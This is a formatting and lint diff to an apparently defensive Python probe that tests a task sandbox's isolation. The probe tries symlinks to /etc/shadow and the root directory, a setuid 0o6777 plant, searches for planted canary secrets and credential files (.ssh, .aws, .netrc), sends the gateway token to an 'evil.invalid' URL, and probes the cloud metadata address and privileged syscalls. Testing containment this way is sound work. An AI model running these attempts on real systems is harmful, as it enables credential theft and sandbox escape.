@@ -9,13 +9,15 @@ side asserts the expected safe outcome of each attempt separately.
 
 Standard library only: it runs on the sandbox image's Python, not the host's.
 """
-# ruff: noqa: T201, BLE001 - a probe reports by printing, and every failure (of any type) is data
+# ruff: noqa: T201, BLE001, PTH101, PTH102, PTH116, PTH123, PTH208, PTH211, S103 - a probe prints its report, every failure (of any type) is data,
+# and the attacks are the plain os calls (symlink, chmod 6777, open) a hostile program makes
 
 from __future__ import annotations
 
 import contextlib
 import ctypes
 import errno
+import functools
 import json
 import os
 import signal
@@ -54,7 +56,7 @@ def emit(report: Report) -> None:
 
 
 def _write(path: str, data: bytes = b"x") -> None:
-    with open(path, "ab") as handle:  # noqa: PTH123 - plain open() is the attack
+    with open(path, "ab") as handle:
         handle.write(data)
 
 
@@ -101,9 +103,9 @@ def attack_filesystem(owned_dir: str, owned_file: str, relevant: str, *absent: s
         "tmp": "/tmp/probe.txt",
         "home": "/home/sandbox/probe.txt",
     }
-    writes = {name: outcome(lambda p=path: _write(p)) for name, path in targets.items()}
+    writes = {name: outcome(functools.partial(_write, path)) for name, path in targets.items()}
     # A folder made next to the owned path is still inside the read-only /work bind.
-    writes["mkdir_beside_owned"] = outcome(lambda: os.mkdir(f"/work/{owned_dir}-sibling"))  # noqa: PTH102
+    writes["mkdir_beside_owned"] = outcome(lambda: os.mkdir(f"/work/{owned_dir}-sibling"))
     listing = sorted(
         str(Path(root, name).relative_to("/work"))
         for root, dirs, files in os.walk("/work")
@@ -124,8 +126,8 @@ def attack_filesystem(owned_dir: str, owned_file: str, relevant: str, *absent: s
 def _setuid_attempt(path: str) -> Report:
     """Plant a setuid, world-writable executable; report the mode the kernel kept."""
     Path(path).write_text("#!/bin/sh\nid -u\n")
-    chmod = outcome(lambda: os.chmod(path, 0o6777))  # noqa: PTH101
-    mode = os.stat(path).st_mode  # noqa: PTH116
+    chmod = outcome(lambda: os.chmod(path, 0o6777))
+    mode = os.stat(path).st_mode
     return {"chmod": chmod, "setuid_kept": bool(mode & stat.S_ISUID), "mode": oct(mode & 0o7777)}
 
 
@@ -135,7 +137,9 @@ def attack_links(owned_dir: str, host_file: str, host_dir: str, relevant: str) -
     # Symbolic links under the names the collector reads, aimed at host files.
     report["symlink_result_json"] = outcome(lambda: os.symlink(host_file, "/out/result.json"))
     report["symlink_bundle"] = outcome(lambda: os.symlink("/etc/shadow", "/out/result.bundle"))
-    report["symlink_dir_in_owned"] = outcome(lambda: os.symlink(host_dir, f"/work/{owned_dir}/escape"))
+    report["symlink_dir_in_owned"] = outcome(
+        lambda: os.symlink(host_dir, f"/work/{owned_dir}/escape")
+    )
     report["symlink_dir_out"] = outcome(lambda: os.symlink("/", "/out/rootlink"))
     report["write_through_dir_link"] = outcome(lambda: _write("/out/rootlink/taskbox-probe"))
     # Hard links: inside one mount they work (nlink 2); across mounts the kernel says EXDEV.
@@ -144,7 +148,9 @@ def attack_links(owned_dir: str, host_file: str, host_dir: str, relevant: str) -
     report["hardlink_from_relevant"] = outcome(
         lambda: os.link(f"/work/{relevant}", f"/work/{owned_dir}/linked")
     )
-    report["hardlink_from_run_json"] = outcome(lambda: os.link("/taskbox/run.json", "/out/run.json"))
+    report["hardlink_from_run_json"] = outcome(
+        lambda: os.link("/taskbox/run.json", "/out/run.json")
+    )
     # Special files: a FIFO would block a naive reader; a socket or device is no file at all.
     report["fifo"] = outcome(lambda: os.mkfifo("/out/fifo"))
     report["socket"] = outcome(lambda: _bind_unix("/out/socket"))
@@ -165,7 +171,7 @@ def _bind_unix(path: str) -> None:
 
 
 def _truncate(path: str, size: int) -> None:
-    with open(path, "ab") as handle:  # noqa: PTH123
+    with open(path, "ab") as handle:
         handle.truncate(size)
 
 
@@ -209,7 +215,17 @@ def attack_secrets(*reversed_canaries: str) -> Report:
                 with contextlib.suppress(OSError):
                     data = (proc / name).read_bytes()
                     found += [f"{proc}/{name}" for c in canaries if c.encode() in data]
-    for top in ("/work", "/taskbox", "/run", "/tmp", "/home", "/out", "/etc", "/root", "/opt/venv/bin"):
+    for top in (
+        "/work",
+        "/taskbox",
+        "/run",
+        "/tmp",
+        "/home",
+        "/out",
+        "/etc",
+        "/root",
+        "/opt/venv/bin",
+    ):
         found += _grep_tree(Path(top), canaries)
     home = Path.home()
     return {
@@ -218,7 +234,14 @@ def attack_secrets(*reversed_canaries: str) -> Report:
         "docker_host": os.environ.get("DOCKER_HOST"),
         "home_files": {
             name: (home / name).exists()
-            for name in (".netrc", ".gitconfig", ".docker/config.json", ".ssh", ".aws", ".git-credentials")
+            for name in (
+                ".netrc",
+                ".gitconfig",
+                ".docker/config.json",
+                ".ssh",
+                ".aws",
+                ".git-credentials",
+            )
         },
         "open_fds": sorted(int(fd) for fd in os.listdir("/proc/self/fd")),
         "run_json_mode": oct(Path("/taskbox/run.json").stat().st_mode & 0o777)
@@ -246,7 +269,7 @@ def read_state(path: str) -> str:
     if not os.path.lexists(path):
         return "absent"
     try:
-        with open(path, "rb") as handle:  # noqa: PTH123
+        with open(path, "rb") as handle:
             data = handle.read(4096)
     except OSError as exc:
         return errno.errorcode.get(exc.errno or 0, type(exc).__name__)
@@ -260,7 +283,9 @@ def _proc_masks() -> Report:
             path: read_state(path)
             for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sched_debug")
         },
-        "sys_firmware_entries": sorted(p.name for p in firmware.iterdir()) if firmware.is_dir() else [],
+        "sys_firmware_entries": sorted(p.name for p in firmware.iterdir())
+        if firmware.is_dir()
+        else [],
         "pid1_environ": read_state("/proc/1/environ"),
         "mountinfo": Path("/proc/self/mountinfo").read_text(),
     }
@@ -278,7 +303,9 @@ def _gateway_call(path: str, headers: dict[str, str], body: bytes) -> tuple[int,
 
     conn = UnixConnection("gateway")
     try:
-        conn.request("POST", path, body=body, headers={"content-type": "application/json", **headers})
+        conn.request(
+            "POST", path, body=body, headers={"content-type": "application/json", **headers}
+        )
         response = conn.getresponse()
         return response.status, response.read()
     finally:
@@ -290,15 +317,27 @@ def attack_gateway(*reversed_canaries: str) -> Report:
     canaries = tuple(c[::-1] for c in reversed_canaries)
     token = json.loads(Path("/taskbox/run.json").read_text())["gateway_token"]
     request = json.dumps(
-        {"model": "claude-sonnet-4-6", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}
+        {
+            "model": "claude-sonnet-4-6",
+            "max_tokens": 16,
+            "messages": [{"role": "user", "content": "hi"}],
+        }
     ).encode()
     forbidden_model = json.dumps(
-        {"model": "claude-forbidden-1", "max_tokens": 16, "messages": [{"role": "user", "content": "hi"}]}
+        {
+            "model": "claude-forbidden-1",
+            "max_tokens": 16,
+            "messages": [{"role": "user", "content": "hi"}],
+        }
     ).encode()
     calls = {
         "no_token": ("/v1/messages", {}, request),
         "wrong_token": ("/v1/messages", {"x-api-key": "wrong-" + token[6:]}, request),
-        "wrong_bearer": ("/v1/messages", {"authorization": "Bearer not-the-token-0123456789"}, request),
+        "wrong_bearer": (
+            "/v1/messages",
+            {"authorization": "Bearer not-the-token-0123456789"},
+            request,
+        ),
         "forbidden_model": ("/v1/messages", {"x-api-key": token}, forbidden_model),
         "other_path": ("/v1/messages/../../v1/complete", {"x-api-key": token}, request),
         "absolute_url": ("http://evil.invalid/v1/messages", {"x-api-key": token}, request),
@@ -364,7 +403,9 @@ def attack_network(port: str, *host_addresses: str) -> Report:
         "udp6_internet": outcome(
             lambda: _connect(socket.AF_INET6, socket.SOCK_DGRAM, ("2001:db8::1", 53))
         ),
-        "tcp_internet": offbox(lambda: _connect(socket.AF_INET, socket.SOCK_STREAM, (OUTSIDE, 443))),
+        "tcp_internet": offbox(
+            lambda: _connect(socket.AF_INET, socket.SOCK_STREAM, (OUTSIDE, 443))
+        ),
         "tcp_metadata": offbox(
             lambda: _connect(socket.AF_INET, socket.SOCK_STREAM, ("169.254.169.254", 80))
         ),
@@ -375,7 +416,7 @@ def attack_network(port: str, *host_addresses: str) -> Report:
         # The host's own addresses: traffic to them never leaves the machine.
         "tcp_host": {
             address: outcome(
-                lambda a=address: _connect(socket.AF_INET, socket.SOCK_STREAM, (a, number))
+                functools.partial(_connect, socket.AF_INET, socket.SOCK_STREAM, (address, number))
             )
             for address in host_addresses
         },
@@ -442,7 +483,7 @@ def attack_privileges() -> Report:
     libc = _libc()
     libc.mount.argtypes = [ctypes.c_char_p] * 3 + [ctypes.c_ulong, ctypes.c_void_p]
     setuid_files = []
-    root_dev = os.stat("/").st_dev  # noqa: PTH116
+    root_dev = os.stat("/").st_dev
     for root, dirs, files in os.walk("/"):
         dirs[:] = [d for d in dirs if os.lstat(Path(root, d)).st_dev == root_dev]
         for name in files:
@@ -486,7 +527,7 @@ def attack_privileges() -> Report:
         "bpf": _syscall_outcome(_SYS_BPF, 0, 0, 0),
         "chroot": outcome(lambda: os.chroot("/tmp")),
         "writes": {
-            path: outcome(lambda p=path: _write(p, b"1"))
+            path: outcome(functools.partial(_write, path, b"1"))
             for path in (
                 "/sys/fs/cgroup/pids/pids.max",
                 "/sys/fs/cgroup/memory/memory.limit_in_bytes",
@@ -557,7 +598,7 @@ def _fill(path: str, chunk: int = MIB, limit: int = 4096) -> tuple[int, str]:
     written = 0
     data = b"\0" * chunk
     try:
-        with open(path, "wb", buffering=0) as handle:  # noqa: PTH123
+        with open(path, "wb", buffering=0) as handle:
             for _ in range(limit):
                 handle.write(data)
                 written += chunk
@@ -691,7 +732,9 @@ def attack_neighbour(marker: str, other: str, seconds: str) -> Report:
                 pids.add(int(proc.name))
                 with contextlib.suppress(OSError):
                     # The neighbour's own marker comes right after the attack name in its argv.
-                    seen_other |= b"neighbour\0" + other.encode() + b"\0" in (proc / "cmdline").read_bytes()
+                    seen_other |= (
+                        b"neighbour\0" + other.encode() + b"\0" in (proc / "cmdline").read_bytes()
+                    )
         time.sleep(0.1)
     own_sources = [
         line.split()[3]
